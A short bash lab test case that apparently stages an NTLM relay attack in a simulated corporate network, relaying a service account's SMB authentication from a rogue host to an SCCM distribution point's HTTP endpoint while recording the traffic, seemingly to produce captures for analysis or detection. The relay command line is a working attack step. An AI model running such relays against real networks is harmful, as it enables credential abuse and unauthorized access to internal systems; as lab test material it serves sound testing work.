#!/bin/bash
# The same relay as in ntlm-relay-smb-to-http, seen at dp01 alone: what the client sent to rogue01 is not captured.
. "$(dirname "$0")/../../tests/lab/case.sh"
. "$TOP/tests/lab/shares.sh"
serve dp01 --roles dp --dp-auth ntlm
relay rogue01 445 -smb2support --no-http-server -t "http://dp01.corp.example/SMS_DP_SMSPKG\$/PS100012/sccm?/readme.html"
record 'tcp and host 192.0.2.30'
smb client01 "-UCORP/svc_naa%$PASSWORD" //rogue01.corp.example/share -c ls
sleep 1
finish
